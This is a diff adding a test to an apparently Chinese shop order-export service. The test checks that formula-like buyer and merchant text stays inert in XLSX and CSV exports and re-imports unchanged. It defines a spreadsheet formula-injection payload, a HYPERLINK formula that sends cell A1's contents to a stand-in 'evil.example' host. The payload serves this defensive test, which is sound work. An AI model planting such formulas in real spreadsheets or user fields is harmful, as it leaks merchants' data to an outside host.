@@ -117,3 +117,33 @@ def test_one_row_per_shop_order_puts_its_items_in_one_cell(seeded, owner_client,
         details = [json.loads(e.detail) for e in session.execute(
             select(AuditEntry).where(AuditEntry.action == "orders.export")).scalars()]
     assert sorted(d["per"] for d in details) == ["order", "order"]
+
+
+HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+def test_buyer_text_that_looks_like_a_formula_stays_text_in_both_files_and_reimports_as_it_was(ctx, shop_id,
+                                                                                                 owner_client):
+    """A buyer's note or a product title is someone else's text: opened in Excel or WPS, "=HYPERLINK(…)" would run
+    on the merchant's machine. The XLSX keeps it a text cell; the CSV starts it with an apostrophe, which the desk's
+    import takes off again, so the exported file's texts re-import as they were."""
+    oid = "4907538423936590001"
+    with transaction(ctx.sessions) as session:
+        upsert_orders(session, shop_id=shop_id, cipher=ctx.cipher, now=NOW, records=[make_record(
+            oid, buyer_note=HOSTILE_NOTE, merchant_note="-不要放驿站", product="@官方 五常大米 +5kg")])
+    xlsx = owner_client.get("/api/v1/exports/orders", params={"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    header = [c.value for c in sheet[1]]
+    cells = dict(zip(header, sheet[2]))
+    assert cells["买家留言"].value == HOSTILE_NOTE and cells["买家留言"].data_type == "s"  # text, not a formula
+    response = owner_client.get("/api/v1/exports/orders", params={"format": "csv"})
+    row = read_csv(response.content)[0]
+    assert row["买家留言"] == "'" + HOSTILE_NOTE and row["商家备注"] == "'-不要放驿站"
+    assert row["选购商品"] == "'@官方 五常大米 +5kg"
+    again = owner_client.post("/api/v1/imports/orders", headers={"X-CSRF-Token": csrf_of(owner_client)},
+                              files={"file": ("export.csv", response.content, "text/csv")})
+    assert again.status_code == 200, again.text
+    assert again.json()["rejected"] == []
+    shown = owner_client.get(f"/api/v1/orders/{oid}").json()  # the texts come back without the apostrophe
+    assert shown["buyer_note"] == HOSTILE_NOTE and shown["merchant_note"] == "-不要放驿站"
+    assert shown["items"][0]["product_name"] == "@官方 五常大米 +5kg"
